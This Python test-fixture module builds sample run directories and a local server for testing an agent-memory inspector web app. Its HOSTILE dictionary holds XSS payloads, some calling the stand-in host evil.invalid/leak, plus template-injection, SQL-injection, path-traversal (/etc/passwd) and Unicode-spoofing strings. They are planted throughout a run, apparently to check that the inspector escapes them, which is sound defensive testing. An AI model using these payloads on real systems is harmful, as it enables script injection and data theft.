"""Run directories to look at: a real one, one that strangers wrote, a large one; and a server that shows them."""

from __future__ import annotations

import json
import shutil
import socket
import sqlite3
import tempfile
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import closing, contextmanager
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import numpy as np
from safetensors.numpy import save_file
from systems.runs import play
from workshop_scorer import learner

from evolvent.agents.inspector.app import application
from evolvent.agents.inspector.serving import Server
from evolvent.agents.run import RunConfig
from evolvent.agents.trace import Trace
from evolvent.agents.types import CallTag
from evolvent.environments.types import (
    Action,
    Cost,
    Message,
    Observation,
    Outcome,
    Recalled,
    Sampling,
    Step,
    Task,
    Trajectory,
    merge,
)
from evolvent.memory.embedding import HashEmbedder
from evolvent.memory.ledger import Ledger
from evolvent.memory.store import Memory
from evolvent.memory.types import Event, Kind, Record, Scope, Status, new_record
from evolvent.memory.weights.adapters import Adapters, adapter_record

LIVED = RunConfig(
    recipe="lamarck",
    tasks=8,
    evaluated=6,
    generations=2,
    embedder="hash",
    settings={"candidates": 3, "gate_pairs": 16, "false_discoveries": 0.5, "trajectories": 1},
)
_HIT = "window.__hit=1"
_LEAK = "http://evil.invalid/leak"
HOSTILE: Mapping[str, str] = {
    # Each would set window.__hit, open a dialog, ask another host for something or break the page, if it were no text.
    "script": f"<script>{_HIT}</script>",
    "script from elsewhere": f'<script src="{_LEAK}.js"></script>',
    "script in capitals": f"<ScRiPt >{_HIT}</sCrIpT >",
    "split script": f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    "image": f'<img src=x onerror="{_HIT}">',
    "image from elsewhere": f'<img src="{_LEAK}.png">',
    "out of an attribute": f'"><img src=x onerror={_HIT}>',
    "out of an attribute, single": f"'><svg onload='{_HIT}'>",
    "handler in an attribute": f'" autofocus onfocus="{_HIT}" x="',
    "backtick attribute": f"` onmouseover=`{_HIT}`",
    "svg": f"<svg/onload={_HIT}>",
    "svg animation": f'<svg><animate onbegin="{_HIT}" attributeName=x dur=1s>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{_HIT}">',
    "frame": f'<iframe srcdoc="<script>parent.__hit=1</script>" src="{_LEAK}"></iframe>',
    "object": f'<object data="javascript:{_HIT}"></object><embed src="{_LEAK}">',
    "link by script": f'<a href="javascript:{_HIT}">click</a>',
    "address by script": f"javascript:{_HIT}//",
    "address of data": "data:text/html,<script>parent.__hit=1</script>",
    "form": f'<form action="{_LEAK}"><button autofocus>Go</button><input name=csrf></form>',
    "meta": f'<meta http-equiv="refresh" content="0;url={_LEAK}"><base href="{_LEAK}/">',
    "style": f"<style>*{{display:none}} body{{background:url({_LEAK})}}</style>",
    "style in an attribute": f'"; background:url({_LEAK}); position:fixed; inset:0; "',
    "style sheet": f'<link rel=stylesheet href="{_LEAK}.css">',
    "end of a script": f"</script><script>{_HIT}</script>",
    "end of a text area": f"</textarea></title></style></noscript><script>{_HIT}</script>",
    "end of a page": "</main></body></html><dialog open>hidden</dialog>",
    "comment": f"<!-- --><script>{_HIT}</script><!-- ",
    "open comment": "<!--",
    "cdata": f"<![CDATA[<script>{_HIT}</script>]]>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# #}",
    "template of scripts": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__hit=1')()}}",
    "dialog": "<img src=x onerror=alert(1)><script>confirm(2);prompt(3)</script>",
    "markup of figures": f'<a href="javascript:{_HIT}">x</a><br><b>bold</b> %{{x}} <extra>y</extra>',
    "hover template": "%{customdata} %{x:.2f} %{fullData.name}",
    "prototype": '__proto__ constructor {"__proto__": {"__hit": 1}}',
    "escaped once": f"&lt;script&gt;{_HIT}&lt;/script&gt; &#60;img src=x onerror={_HIT}&#62; &quot;&apos;",
    "address escapes": f"%3Cscript%3E{_HIT}%3C/script%3E %00 %2e%2e%2f",
    "unicode escapes": f"\\u003cscript\\u003e{_HIT}\\u003c/script\\u003e \\x3cimg src=x onerror={_HIT}\\x3e",
    "wildcards": "%_[a-z]* ' OR 1=1; DROP TABLE records; --",
    "id with signs": "a/b?c#d&e=f%2F\"'<g>;:@",
    "path": "../../../../etc/passwd",
    "markdown": f"[x](javascript:{_HIT}) ![y]({_LEAK}.png) <http://evil.invalid> `code` # head",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "control signs": "nul\x00 bell\x07 back\x08 del\x7f form\x0c next\x85 vertical\x0b",
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\n\n\n\nsix",
    "right to left": "safe \u202etxt.exe\u202c \u2066\u2067mixed\u2069 \u200f\u061c end",
    "invisible": "ze\u200bro\ufeff wi\u00adth \u2060 \U000e0041\U000e007f",
    "combining": "Z" + "\u0300\u0316\u033f\u0489" * 60 + "algo",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺 e\u0301 ﷽ ﷺ 𒐫",
    "no character": "\ufffd\uffff\ufdd0 \U0001ffff",
    "long word": "W" * 20_000,
    "long line": "a word " * 3_000,
    "many lines": "line\n" * 3_000,
    "deep markup": "<div>" * 2_000 + "<b>" * 2_000,
    "empty": "",
    "space": " \t\n \u00a0\u3000 ",
}
"""By what it tries."""
MILLION = "A large text. " * 75_000


# -- a server ------------------------------------------------------------------------------------------------------


@contextmanager
def served(root: Path, *, write: bool = False, host: str = "127.0.0.1") -> Iterator[str]:
    """The address at which the inspector shows `root` meanwhile."""
    listening = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    listening.bind((host, 0))
    server = Server(application(root, write=write, host=host))
    thread = threading.Thread(target=server.run, args=([listening],))
    thread.start()
    try:
        while not server.started:
            assert thread.is_alive()
            time.sleep(0.01)
        shown = f"[{host}]" if ":" in host else host
        yield f"http://{shown}:{listening.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()
        listening.close()


# -- runs ----------------------------------------------------------------------------------------------------------


def lived(folder: Path) -> Path:
    """A real run of two generations that proved rules, with lifts, a retired record and an adapter."""
    play(folder, LIVED, {"actor": learner()})
    trained(folder, "workshop-sft")
    with Memory.open(folder, embedder=HashEmbedder()) as memory:
        proved = [each for each in memory.records().values() if each.kind == "rule" and each.status == "active"]
        payload = {"reason": "another says the same", "by": "hand"}
        memory.commit("2/tidy", [Event("retire", proved[-1].id, payload=payload)], generation=2, note="by hand")
    return folder


def trained(folder: Path, name: str, text: str = "", *, generation: int = 1) -> Record:
    """An adapter in the registry of a run and its record in memory; what may be text there is `text`."""
    with tempfile.TemporaryDirectory() as built:
        source = Path(built)
        save_file({"q.lora_A.weight": np.full((4, 8), 0.5, np.float32)}, source / "adapter_model.safetensors")
        (source / "adapter_config.json").write_text(json.dumps({"peft_type": "LORA", "r": 4, "note": text}))
        rows = [
            {"step": step, "of": 5, "loss": 2.0 / step, "tokens": 9 * step, "seconds": step} for step in range(1, 6)
        ]
        (source / "loss.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        entry = Adapters(folder).register(
            source,
            name,
            base=text or "smollm2",
            created="2026-01-01T00:00:00+00:00",
            config={"rank": 4, **({text: text} if text else {})},
            metrics={"loss": 0.4, **({"note": text} if text else {})},
        )
    record = adapter_record(entry, generation=generation)
    gate = {"wins": 9, "losses": 1, "ties": 6, "mean": 0.5, "e_value": 31.0, "level": 0.05, "verdict": "proved"}
    with Memory.open(folder, embedder=HashEmbedder()) as memory:
        memory.commit(f"{generation}/train", [Event("add", record.id, record)], generation=generation)
        proof = [Event("activate", record.id, payload={"gate": gate})]
        memory.commit(f"{generation}/distil", proof, generation=generation)
    return record


def hand_written(folder: Path, texts: Mapping[str, str] | None = None) -> Path:
    """A run written in a moment: one of every kind of thing for each text, wherever a text may stand.

    Args:
        texts: by a plain name; without, a single harmless one.
    """
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.json").write_text(LIVED.model_dump_json())
    (folder / "metrics.jsonl").write_text("")
    trace = Trace(folder / "trace.jsonl")
    with Memory.open(folder, embedder=HashEmbedder()) as memory:
        for number, text in enumerate((texts or {"plain": "To mend a rusty hinge, use the file."}).values()):
            _written(memory, trace, number, text)
        scores = {f"task-{number}": [float(number % 3 > 0)] for number in range(6)}
        frozen = {name: [0.0] for name in scores}
        for generation in (1, 2):
            memory.ledger.add_generation(generation, json.dumps(_row(memory, generation, scores, frozen)))
    trace.close()
    return folder


def _row(memory: Memory, generation: int, scores: object, frozen: object) -> dict[str, object]:
    cost = {"calls": 12, "seconds": 1.5, "tokens_in": 900, "tokens_out": 40}
    model = {"base": "scripted", "adapter": "", "memory": memory.ledger.head()}
    told = {"generation": generation, "model": model, "scores": scores, "frozen_scores": frozen, "solved": 0.5}
    return {**told, "dropped": 0, "cost": cost, "evaluation_cost": cost}


def _written(memory: Memory, trace: Trace, number: int, text: str) -> None:
    """A rule that was proved, credited, retired and restored, what it came from, and who said so."""
    generation = 1 + number % 2
    key = f"train/{generation}/task-{number}/0"
    trajectory = _episode(number, text, key, generation)
    scope = Scope("workshop", (text,) if text else (), text)
    rule = new_record("rule", text, scope, parents=(trajectory.id,), meta={"note": text, text or "empty": [text]})
    other = new_record("note", f"{number} {text}", Scope("workshop"), parents=(rule.id,))
    shown = replace(trajectory, recalled=(Recalled(rule.id, number % 2 == 0, 0.5), Recalled("rule-gone", True)))
    memory.add_episode(key, [shown, replace(trajectory, id=f"{text}/{number}", player=text or "other")])
    gate = {"wins": 9, "losses": 0, "ties": 1, "mean": 0.5, "e_value": 99.0, "level": 0.05, "verdict": text}
    lift = {"mean": 0.4 - number / 50, "low": 0.1 - number / 50, "high": 0.7 - number / 50, "n": 30}
    added = [Event("add", rule.id, rule), Event("add", other.id, other)]
    name = f"{generation}/learn {number} {text[:200]}"
    memory.commit(name, added, generation=generation, note=text)
    decided = [
        Event("activate", rule.id, payload={"gate": gate, "by": text}),
        Event("credit", rule.id, payload={"lift": lift, "recalls": 30}),
        Event("activate", other.id, payload={"reason": text, text or "empty": text}),
        *([Event("retire", other.id, payload={"reason": text, "by": text})] if number % 3 == 0 else []),
    ]
    memory.commit(f"{generation}/gate {number}", decided, generation=generation, note=text)
    memory.ledger.add_memo(f"{generation}/reflect/{number}", text)
    step_key = CallTag("actor", "train", generation, f"task-{number}", 0, key)
    for index, step in enumerate(shown.steps):
        options, odds = step.sampling.options, step.sampling.probabilities
        sent = merge(shown.prompt(index))
        trace.call(step_key, text, sent, step.reply, Cost(5, 1, 1, 0.1), options=options, probabilities=odds)
    thought = CallTag(text or "thinker", "train", generation, text or "task", 0, "", text or "think")
    trace.call(thought, text, [(text or "user", text), ("user", "?")], text, Cost(5, 1, 1, 0.1))
    trace.call(replace(thought, role="judge"), text, [("user", text)], "", Cost(), error=f"{text} refused")


def _episode(number: int, text: str, key: str, generation: int) -> Trajectory:
    sampling = Sampling(0.5, "choose", (text, "file", f"{text} two"), (0.25, 0.7, 0.05))
    head = (Message("system", "instructions", text), Message("user", "memory", text), Message("user", "task", text))
    steps = [
        Step(
            text or "agent",
            Observation(text or "agent", text, (text, "file"), frame=text or "{action}"),
            (*(head if index == 0 else ()), Message("user", "history", f"{index} {text}")),
            text,
            Action(text),
            -0.5,
            sampling,
            0.5,
            text,
        )
        for index in range(3)
    ]
    task = Task(f"task-{number}", text, "workshop", {text: text, "list": [text]}, (text,), (text,))
    outcome = Outcome(1.0, True, "", text) if number % 2 else Outcome(0.0, False, "model", text)
    cost = Cost(60, 8, 3, 0.5)
    who = text or "agent"
    return Trajectory(key, task, who, tuple(steps), outcome, "train", generation, 0, 7, (), text, cost)


def hostile(folder: Path) -> Path:
    """A run in which every text is of somebody who means harm; with one text of a megabyte."""
    hand_written(folder, {**HOSTILE, "million": MILLION})
    for name in ("<script>", "onerror", "proto"):
        trained(folder, name.strip("<>"), HOSTILE["out of an attribute"], generation=2)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(
        json.dumps(
            config
            | {"model": HOSTILE["script"], "roles": {HOSTILE["image"]: HOSTILE["svg"]}, "preset": HOSTILE["dialog"]}
            | {"options": {HOSTILE["frame"]: HOSTILE["style"]}, "settings": {HOSTILE["script"]: HOSTILE["meta"]}}
        )
    )
    with (folder / "trace.jsonl").open("ab") as file:
        file.write(b'{"role":"\\ud800","phase":"train","generation":1,"task":"\xff\xfe","messages":[')
        file.write(b'{"role":"user","content":"\\udc80 half a sign"}],"reply":"\\ud83d"}\n<script>no line</script>\n')
    (folder / "metrics.jsonl").write_text(json.dumps({"phase": HOSTILE["script"], "\ud800": 1}) + "\n{not json\n")
    return folder


def stored(folder: Path, count: int) -> Path:
    """A memory of so many records, some proved and credited, without an index and without a run."""
    from benchmarks.bench_memory_scale import texts

    folder.mkdir(parents=True, exist_ok=True)
    statuses: tuple[Status, ...] = ("active", "candidate", "retired", "quarantined")
    kinds: tuple[Kind, ...] = ("rule", "note", "rule", "trajectory")
    memory = Memory(Ledger(folder / "ledger.sqlite"), None, HashEmbedder(64))
    batch: list[Event] = []
    for number, text in enumerate(texts(count)):
        scope = Scope(("workshop", "kitchen", "")[number % 3])
        record = new_record(kinds[number % 4], text, scope, parents=(f"t{number // 3}",), status=statuses[number % 4])
        batch.append(Event("add", record.id, record))
        if number % 5 == 0:
            mean = (number % 200) / 100 - 1
            lift = {"mean": mean, "low": mean - 0.2, "high": mean + 0.2, "n": 40}
            batch.append(Event("credit", record.id, payload={"lift": lift, "recalls": number % 77}))
        if len(batch) >= 5000 or number == count - 1:
            memory.commit(f"{1 + number // 20_000}/batch {number}", batch, generation=1 + number // 20_000)
            batch = []
    memory.search("made ready", k=1, mode="dense")  # so that its vectors lie in the ledger, as those of a run do
    memory.close()
    return folder


def copied(folder: Path, to: Path) -> Path:
    return Path(shutil.copytree(folder, to))


def views(run: Path, name: str) -> dict[str, str]:
    """Addresses of every view of a finished run in a folder of several, by what they show."""
    with closing(sqlite3.connect(f"file:{run / 'ledger.sqlite'}?mode=ro", uri=True)) as db:

        def one(query: str) -> str:
            row = db.execute(query).fetchone()
            return quote(str(row[0]), safe="") if row else "none"

        lived_in = one("SELECT t.id FROM trajectories t JOIN recalls r ON r.trajectory = t.seq ORDER BY t.seq")
        rule = one("SELECT record FROM events WHERE kind = 'activate' AND record LIKE 'rule-%' ORDER BY seq")
        commits = [row[0] for row in db.execute("SELECT id FROM commits ORDER BY seq")]
    first, last = (commits[0], commits[-1]) if commits else ("none", "none")
    adapters = sorted(each.name for each in (run / "adapters").glob("*@*"))
    here = f"/run/{name}"
    return {
        "runs": "/runs",
        "runs compared": f"/runs?run={name}",
        "systems": "/systems",
        "a system": "/systems/reflexion",
        "overview": here,
        "episodes": f"{here}/episodes",
        "episodes filtered": f"{here}/episodes?phase=train&sort=-score",
        "an episode": f"{here}/episodes/{lived_in}",
        "a step": f"{here}/episodes/{lived_in}?step=1",
        "calls": f"{here}/calls",
        "a call": f"{here}/calls/1",
        "memory": f"{here}/memory",
        "memory sorted": f"{here}/memory?sort=lift&kind=all",
        "memory searched": f"{here}/memory?q=mend+rust&mode=bm25",
        "a record": f"{here}/memory/{rule}",
        "a record as it was": f"{here}/memory/{rule}?at={last}",
        "lineage": f"{here}/lineage/{rule}?depth=2",
        "lineage of a trajectory": f"{here}/lineage/{lived_in}",
        "generations": f"{here}/generations",
        "a commit": f"{here}/commits/{last}",
        "a difference": f"{here}/diff?from={first}&to={last}",
        **({"an adapter": f"{here}/adapters/{quote(adapters[0], safe='')}"} if adapters else {}),
    }
